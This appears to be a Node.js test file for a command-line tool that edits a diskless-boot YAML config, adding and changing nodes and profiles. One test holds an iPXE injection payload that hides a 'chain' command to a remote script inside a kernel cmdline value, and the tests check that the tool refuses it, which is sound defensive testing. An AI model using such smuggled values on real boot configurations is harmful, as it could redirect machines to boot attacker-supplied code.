import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const CLI = fileURLToPath(new URL('./main.js', import.meta.url));
const CONFIG = `# the lab
server:
  address: 10.0.0.1   # reached by nodes here
profiles:
  default:
    kernel: /k
nodes:
  # the first one
  - mac: 52:54:00:00:00:01
    hostname: dc1
`;

function cli(...args: string[]) {
  const r = spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8' });
  return { code: r.status, out: r.stdout, err: r.stderr };
}

test('node and profile commands edit the config in place and keep comments', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'dl-cli-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const file = join(dir, 'diskless.yaml');
  writeFileSync(file, CONFIG);
  assert.equal(cli('node', 'add', '--mac', '52-54-00-00-00-02', '--hostname', 'dc2', '--address', '10.0.0.12', '--config', file).code, 0);
  assert.equal(cli('node', 'set', '52:54:00:00:00:01', '--address', '10.0.0.11', '--config', file).code, 0);
  assert.equal(cli('profile', 'add', 'debug', '--inherits', 'default', '--cmdline', 'rd.debug', '--config', file).code, 0);
  assert.equal(cli('node', 'set', '52:54:00:00:00:02', '--profile', 'debug', '--unset', 'address', '--config', file).code, 0);
  const text = readFileSync(file, 'utf8');
  for (const kept of ['# the lab', 'address: 10.0.0.1   # reached by nodes here', '  # the first one']) assert.ok(text.includes(kept), kept);
  const list = cli('node', 'list', '--config', file);
  assert.equal(list.code, 0);
  assert.match(list.out, /52:54:00:00:00:01\s+dc1\s+10\.0\.0\.11\s+default\s+ipxe/);
  assert.match(list.out, /52:54:00:00:00:02\s+dc2\s+pool\s+debug\s+ipxe/);
  assert.match(cli('profile', 'list', '--config', file).out, /^debug\s+ipxe\s+no root\s+kernel \/k$/m);
});

test('edits that would break the config are refused and change nothing', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'dl-cli-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const file = join(dir, 'diskless.yaml');
  writeFileSync(file, CONFIG);
  const dup = cli('node', 'add', '--mac', '52:54:00:00:00:01', '--config', file);
  assert.equal(dup.code, 1);
  assert.match(dup.err, /52:54:00:00:00:01/);
  const badProfile = cli('node', 'add', '--mac', '52:54:00:00:00:03', '--profile', 'nope', '--config', file);
  assert.equal(badProfile.code, 1);
  assert.match(badProfile.err, /names no profile "nope"/);
  assert.match(cli('profile', 'rm', 'default', '--config', file).err, /dc1|52:54:00:00:00:01/);
  assert.match(cli('node', 'set', '52:54:00:00:00:01', '--unset', 'colour', '--config', file).err, /"colour" is not one of/);
  assert.equal(cli('node', 'add', '--mac', '52:54:00:00:00:09').code, 1, 'no --config');
  assert.equal(readFileSync(file, 'utf8'), CONFIG);
});

test('cmdline with iPXE syntax is refused by node and profile add/set, naming the key and the character', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'dl-cli-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const file = join(dir, 'diskless.yaml');
  writeFileSync(file, CONFIG);
  const payload = 'quiet ; chain http://elsewhere/x.ipxe ; #';
  for (const [args, key] of [
    [['node', 'set', '52:54:00:00:00:01', '--cmdline', payload], 'nodes[0].cmdline'],
    [['node', 'add', '--mac', '52:54:00:00:00:02', '--cmdline', payload], 'nodes[1].cmdline'],
    [['profile', 'set', 'default', '--cmdline', payload], 'profiles.default.cmdline'],
    [['profile', 'add', 'debug', '--inherits', 'default', '--cmdline', 'rd.debug ${x}'], 'profiles.debug.cmdline'],
  ] as Array<[string[], string]>) {
    const r = cli(...args, '--config', file);
    assert.equal(r.code, 1, args.join(' '));
    assert.ok(r.err.includes(`${key}: may not contain `), r.err);
    assert.match(r.err, /"[;$]" \(U\+00(3B|24), character \d+\)/);
  }
  assert.equal(readFileSync(file, 'utf8'), CONFIG);
});


test('node add/set/rm of a node known by its switch port: --circuit-id, host:NAME, --mac and --unset', (t) => {
  const dir = mkdtempSync(join(tmpdir(), 'dl-cli-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  const file = join(dir, 'diskless.yaml');
  writeFileSync(file, CONFIG);
  const add = cli('node', 'add', '--circuit-id', 'Gi1/0/7', '--remote-id', 'sw3', '--hostname', 'r1n7', '--config', file);
  assert.deepEqual([add.code, add.out, add.err], [0, `added node host:r1n7 to ${file}\n`, '']);
  assert.match(cli('node', 'list', '--config', file).out, /circuit Gi1\/0\/7 on remote sw3\s+r1n7\s+pool\s+default/);
  assert.equal(cli('node', 'set', 'host:r1n7', '--circuit-id', 'Gi1/0/8', '--address', '10.0.0.17', '--config', file).code, 0);
  assert.match(cli('node', 'list', '--config', file).out, /circuit Gi1\/0\/8\s+r1n7\s+10\.0\.0\.17/);
  const noMac = cli('node', 'set', '52:54:00:00:00:01', '--unset', 'mac', '--config', file);
  assert.equal(noMac.code, 1);
  assert.match(noMac.err, /mac cannot be removed while it has no switch_port/);
  const noPort = cli('node', 'add', '--remote-id', 'sw3', '--hostname', 'x', '--config', file);
  assert.match(noPort.err, /--remote-id needs --circuit-id/);
  assert.equal(cli('node', 'set', 'host:r1n7', '--mac', '52:54:00:00:00:17', '--unset', 'switch_port', '--config', file).code, 0);
  assert.match(cli('node', 'list', '--config', file).out, /52:54:00:00:00:17\s+r1n7/);
  assert.equal(cli('node', 'rm', '52:54:00:00:00:17', '--config', file).code, 0);
  assert.doesNotMatch(readFileSync(file, 'utf8'), /r1n7/);
});
